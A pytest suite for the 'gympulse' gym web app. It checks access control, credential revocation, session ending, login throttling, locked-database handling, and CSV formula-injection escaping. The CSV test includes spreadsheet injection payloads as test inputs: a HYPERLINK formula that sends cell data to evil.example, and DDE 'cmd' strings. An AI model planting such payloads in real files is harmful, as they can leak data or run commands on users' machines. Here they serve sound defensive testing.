"""Security of the web app against a real ``gympulse web`` process (issue 10): who may read
the live board, the class summaries and the API docs; CSV exports that run no formulas;
streams that end when their credential goes; login throttling; sessions that end with a
password change; a server that stays responsive while the database is locked."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from gympulse import contract
from gympulse.dashboards.accounts import Accounts
from gympulse.pipeline.journal import Journal
from tests.support.procs import Mosquitto
from tests.support.web import (
    CSRF_RE,
    Seeded,
    board_token,
    guest_token,
    web_server,
)

pytestmark = pytest.mark.slow
DAY_MS = 86_400_000


def cli(db: Path, *args: str, env: dict[str, str] | None = None) -> str:
    """Run ``gympulse ARGS`` on ``db``; returns its stdout (the command must succeed)."""
    done = subprocess.run(
        [sys.executable, "-m", "gympulse.cli", *args],
        env={**os.environ, "GYMPULSE_STORE__PATH": str(db), **(env or {})},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def client(base: str, source: str = "127.0.0.1") -> httpx.Client:
    """A browser-like client (own cookie jar) connecting from ``source``."""
    transport = httpx.HTTPTransport(local_address=source)
    return httpx.Client(base_url=base, transport=transport, timeout=30, follow_redirects=False)


def csrf(html: str) -> str:
    found = CSRF_RE.search(html)
    assert found is not None
    return found.group(1)


def try_login(c: httpx.Client, user: str, password: str) -> httpx.Response:
    form = c.get("/coach/login")
    data = {"username": user, "password": password, "csrf": csrf(form.text)}
    return c.post("/coach/login", data=data)


def login(c: httpx.Client, user: str, password: str) -> str:
    """Log in; returns the CSRF token of the session's forms."""
    response = try_login(c, user, password)
    assert response.status_code == 303 and response.headers["location"] == "/coach"
    return csrf(c.get("/coach").text)


@pytest.fixture
def server(mosquitto: Mosquitto, seeded: Seeded) -> Iterator[str]:
    with web_server(mosquitto.url, seeded.db) as base:
        yield base


# ---------------------------------------------------------------------- item 3


def test_live_board_summaries_and_docs_need_their_credential(
    mosquitto: Mosquitto, seeded: Seeded, server: str, tmp_path: Path
) -> None:
    journal = Journal(seeded.db)
    now = contract.now_ms()
    yesterday = journal.add_class("Yesterday's HIIT", now - DAY_MS - 3_600_000, now - DAY_MS)
    today = journal.add_class("Spinning", now - 600_000, now + 600_000)
    journal.close()
    board = ("/live", "/api/live/snapshot", "/api/live/summary", "/api/live/class")

    anonymous = client(server)
    for path in (*board, "/api/live/stream", "/openapi.json", "/api/live/summary?class_id=1"):
        assert anonymous.get(path).status_code == 403, path
    for path in ("/docs", "/redoc"):
        assert anonymous.get(path).headers["location"] == "/coach/login", path
    assert anonymous.get("/board/made-up-token").status_code == 404

    # The gym's TV: a board link from the CLI; the browser remembers it in a cookie.
    out = cli(seeded.db, "board", "link", "--label", "hall TV", "--base-url", server)
    found = re.search(r"Board link #(\d+): (\S+)", out)
    assert found is not None
    link_id, link = found.groups()
    tv = client(server)
    opened = tv.get(link.removeprefix(server))
    assert opened.headers["location"] == "/live"
    for path in board:
        assert tv.get(path).status_code == 200, path
    assert tv.get(f"/api/live/summary?class_id={today}").status_code == 200
    assert tv.get(f"/api/live/summary?class_id={yesterday}").status_code == 403  # the past
    assert tv.get("/openapi.json").status_code == 403
    assert tv.get("/api/coach/squad").status_code == 403

    # The coach sees the past classes and the API docs.
    coach = client(server)
    login(coach, seeded.coach_user, seeded.coach_password)
    assert coach.get(f"/api/live/summary?class_id={yesterday}").status_code == 200
    assert "/api/live/snapshot" in coach.get("/openapi.json").json()["paths"]
    assert coach.get("/docs").status_code == 200 and coach.get("/redoc").status_code == 200
    assert coach.get("/api/live/snapshot").status_code == 200

    # Revoked (by another process): the TV's link opens nothing any more.
    cli(seeded.db, "board", "revoke", link_id)
    assert tv.get("/api/live/snapshot").status_code == 403
    assert tv.get(link.removeprefix(server)).status_code == 404


def test_trusted_network_opens_the_board_only(
    mosquitto: Mosquitto, seeded: Seeded, tmp_path: Path
) -> None:
    config = tmp_path / "gympulse.toml"
    config.write_text('[web]\nboard_trusted_networks = ["127.0.0.0/30"]\n')
    with web_server(mosquitto.url, seeded.db, config=config) as base:
        inside, outside = client(base, "127.0.0.2"), client(base, "127.0.0.9")
        assert inside.get("/api/live/snapshot").status_code == 200
        assert inside.get("/live").status_code == 200
        assert outside.get("/api/live/snapshot").status_code == 403
        # The trusted network opens today's board, nothing else.
        assert inside.get("/api/live/summary?class_id=1").status_code == 403
        assert inside.get("/openapi.json").status_code == 403
        assert inside.get("/api/coach/squad").status_code == 403


# ---------------------------------------------------------------------- item 8

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_exports_run_no_formulas(seeded: Seeded, server: str) -> None:
    coach = client(server)
    token = login(coach, seeded.coach_user, seeded.coach_password)
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    alias = "@SUM(1+1)*cmd|' /C calc'!A0"
    klass = "+cmd|' /C notepad'!A0"
    tabbed = "\t=1+2"
    forms = [
        ("/coach/admin/athletes", {"name": name}),
        ("/coach/admin/athletes", {"name": tabbed}),
        ("/coach/admin/straps", {"sensor": "strap-66", "label": alias}),
        ("/coach/admin/classes", {"name": klass, "start": "2026-01-05T10:00", "minutes": "45"}),
        ("/coach/admin/classes", {"name": "-2+3", "start": "2026-01-06T10:00", "minutes": "45"}),
    ]
    for path, data in forms:
        assert coach.post(path, data=data | {"csrf": token}).status_code == 303, path
    cells: list[str] = []
    for table in ("athletes", "sensors", "classes"):
        response = coach.get(f"/coach/export/{table}.csv")
        assert response.status_code == 200
        for row in csv.reader(io.StringIO(response.text)):
            cells.extend(row)
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    for text in (name, alias, klass, tabbed, "-2+3"):
        assert "'" + text in cells, text  # kept, shown as text
    assert "Alice" in cells  # ordinary cells untouched


# ---------------------------------------------------------------------- helpers for streams


class Stream:
    """An SSE connection read in a thread: ``ended`` is set when the server closes it."""

    def __init__(self, c: httpx.Client, path: str) -> None:
        self.ended = threading.Event()
        self.opened = threading.Event()
        self.status = 0
        self.lines = 0
        self._thread = threading.Thread(target=self._read, args=(c, path), daemon=True)
        self._thread.start()
        assert self.opened.wait(10)

    def _read(self, c: httpx.Client, path: str) -> None:
        try:
            with c.stream("GET", path, timeout=httpx.Timeout(60, read=60)) as response:
                self.status = response.status_code
                self.opened.set()
                for _ in response.iter_lines():
                    self.lines += 1
        except httpx.HTTPError:
            pass
        finally:
            self.opened.set()
            self.ended.set()

    def ended_within(self, seconds: float) -> float | None:
        """Seconds until the server ended the stream, None if it did not in ``seconds``."""
        t0 = time.monotonic()
        return time.monotonic() - t0 if self.ended.wait(seconds) else None


def _board_cookie(c: httpx.Client, db: Path) -> None:
    assert c.get(f"/board/{board_token(db)}").status_code == 303


# ---------------------------------------------------------------------- item 4


def test_streams_end_when_their_credential_goes(seeded: Seeded, server: str) -> None:
    """Board link revoked by another process, guest link revoked by the coach, a guest
    link that expires, a coach who logs out: each open stream ends (it used to run on for
    15–45 s, the board's for good)."""
    took: dict[str, float | None] = {}
    # The TV's board link, revoked with the CLI (another process).
    out = cli(seeded.db, "board", "link", "--base-url", server)
    found = re.search(r"Board link #(\d+): \S+/board/(\S+)", out)
    assert found is not None
    tv = client(server)
    assert tv.get(f"/board/{found.group(2)}").status_code == 303
    stream = Stream(tv, "/api/live/stream")
    assert stream.status == 200
    cli(seeded.db, "board", "revoke", found.group(1))
    took["board revoked"] = stream.ended_within(5)

    # A guest's link, revoked by the coach on the athlete page.
    alice = seeded.athletes["Alice"]
    token = guest_token(seeded.db, alice)
    guest = Stream(client(server), f"/api/me/{token}/stream")
    assert guest.status == 200
    coach = client(server)
    coach_csrf = login(coach, seeded.coach_user, seeded.coach_password)
    accounts = Accounts(seeded.db)
    (link_id,) = [g.id for g in accounts.guest_tokens(alice) if g.revoked_ms is None]
    accounts.close()
    revoked = coach.post(f"/coach/guest-links/{link_id}/revoke", data={"csrf": coach_csrf})
    assert revoked.status_code == 303
    took["guest revoked"] = guest.ended_within(5)

    # A guest link that expires while the stream is open.
    short = guest_token(seeded.db, alice, days=3 / 86_400)
    expiring = Stream(client(server), f"/api/me/{short}/stream")
    assert expiring.status == 200
    took["guest expired"] = expiring.ended_within(3 + 5)

    # The coach watching the board logs out (in another tab).
    board = Stream(coach, "/api/live/stream")
    assert board.status == 200
    assert coach.post("/coach/logout", data={"csrf": coach_csrf}).status_code == 303
    took["coach logged out"] = board.ended_within(5)
    print("stream ended after (s):", took)
    assert all(t is not None for t in took.values()), took
    # And they do not come back.
    assert tv.get("/api/live/stream").status_code == 403
    assert client(server).get(f"/api/me/{token}/stream").status_code == 404


# ---------------------------------------------------------------------- item 7


def test_password_change_and_removal_end_other_sessions(seeded: Seeded, server: str) -> None:
    laptop, phone = client(server), client(server)
    laptop_csrf = login(laptop, seeded.coach_user, seeded.coach_password)
    login(phone, seeded.coach_user, seeded.coach_password)
    phone_board = Stream(phone, "/api/live/stream")
    new_password = "a brand new passphrase"
    wrong = laptop.post(
        "/coach/password", data={"old": "nope", "new": new_password, "csrf": laptop_csrf}
    )
    assert wrong.status_code == 403
    assert phone.get("/api/coach/squad").status_code == 200  # nothing changed
    changed = laptop.post(
        "/coach/password",
        data={"old": seeded.coach_password, "new": new_password, "csrf": laptop_csrf},
    )
    assert changed.status_code == 303
    assert laptop.get("/api/coach/squad").status_code == 200  # the session that asked
    assert phone.get("/api/coach/squad").status_code == 403  # every other one ended
    assert phone.get("/coach").headers["location"] == "/coach/login"
    assert phone_board.ended_within(5) is not None
    assert try_login(client(server), seeded.coach_user, seeded.coach_password).status_code == 303
    login(phone, seeded.coach_user, new_password)

    # A reset from the CLI (another process) ends every session; so does removing it.
    cli(seeded.db, "coach-user", seeded.coach_user, env={"COACH_PASSWORD": "third passphrase"})
    assert laptop.get("/api/coach/squad").status_code == 403
    assert phone.get("/api/coach/squad").status_code == 403
    login(laptop, seeded.coach_user, "third passphrase")
    cli(seeded.db, "coach-user", seeded.coach_user, "--remove")
    assert laptop.get("/api/coach/squad").status_code == 403


# ---------------------------------------------------------------------- item 6


def test_login_throttled_per_address_and_account_without_locking_the_coach_out(
    seeded: Seeded, server: str
) -> None:
    attacker = client(server, "127.0.0.3")
    answers = [try_login(attacker, "coach", f"guess-{i}") for i in range(10)]
    statuses = [a.status_code for a in answers]
    assert statuses[:5] == [303] * 5  # five free mistakes
    assert 429 in statuses
    refused = answers[statuses.index(429)]
    assert "Too many wrong passwords" in refused.text
    assert int(refused.headers["retry-after"]) >= 1
    # Throttled is throttled: even the right password from that address waits.
    assert try_login(attacker, "coach", seeded.coach_password).status_code == 429

    # More addresses join: the account is under attack (every address gets one free try).
    for source in ("127.0.0.4", "127.0.0.5"):
        other = client(server, source)
        for i in range(4):
            try_login(other, "coach", f"more-{i}")
    late = client(server, "127.0.0.6")
    tries = [try_login(late, "coach", f"late-{i}").status_code for i in range(4)]
    assert tries[0] == 303 and 429 in tries  # well before the usual five free tries

    # The real coach, from the gym office's address, still logs in at once.
    office = client(server, "127.0.0.2")
    login(office, seeded.coach_user, seeded.coach_password)
    assert office.get("/api/coach/squad").status_code == 200
    # Failed and throttled logins are logged (the user named only when it exists).
    port = server.rsplit(":", 1)[1]
    log = (seeded.db.parent / f"web-{port}.log").read_text()
    assert "coach login failed: user='coach' client=127.0.0.3" in log
    assert "coach login throttled: client=127.0.0.3" in log
    assert "guess-" not in log  # passwords never
    assert try_login(late, "nobody", "x" * 8).status_code in (303, 429)


# ---------------------------------------------------------------------- item 5

HOLD_LOCK = """
import sqlite3, sys, time
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("BEGIN IMMEDIATE")
print("locked", flush=True)
time.sleep(float(sys.argv[2]))
"""


def test_locked_database_answers_try_again_and_the_server_keeps_serving(
    seeded: Seeded, server: str
) -> None:
    tv = client(server)
    _board_cookie(tv, seeded.db)
    token = guest_token(seeded.db, seeded.athletes["Alice"])
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_LOCK, str(seeded.db), "60"],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        results: dict[str, httpx.Response] = {}

        def writers() -> None:
            results["login"] = try_login(client(server), "coach", seeded.coach_password)
            guest = client(server)
            page = guest.get(f"/me/{token}")
            answers = {k: "3" for k in ("sleep", "stress", "mood", "energy", "soreness")}
            data = answers | {"csrf": csrf(page.text)}
            results["wellness"] = guest.post(f"/me/{token}/wellness", data=data)

        blocked = threading.Thread(target=writers)
        blocked.start()
        served = 0
        while blocked.is_alive():  # meanwhile the board and health answer, again and again
            assert tv.get("/api/live/snapshot").status_code == 200
            assert tv.get("/healthz").status_code == 200
            served += 1
        blocked.join()
        assert served >= 3, served
        assert set(results) == {"login", "wellness"}  # the writers' thread got through
        for name, response in results.items():
            assert response.status_code == 503, (name, response.status_code, response.text)
            assert "try again" in response.text, name
            assert response.headers["retry-after"] == "2"
    finally:
        holder.kill()
        holder.wait()
    # The lock is gone: everything works again.
    login(client(server), seeded.coach_user, seeded.coach_password)
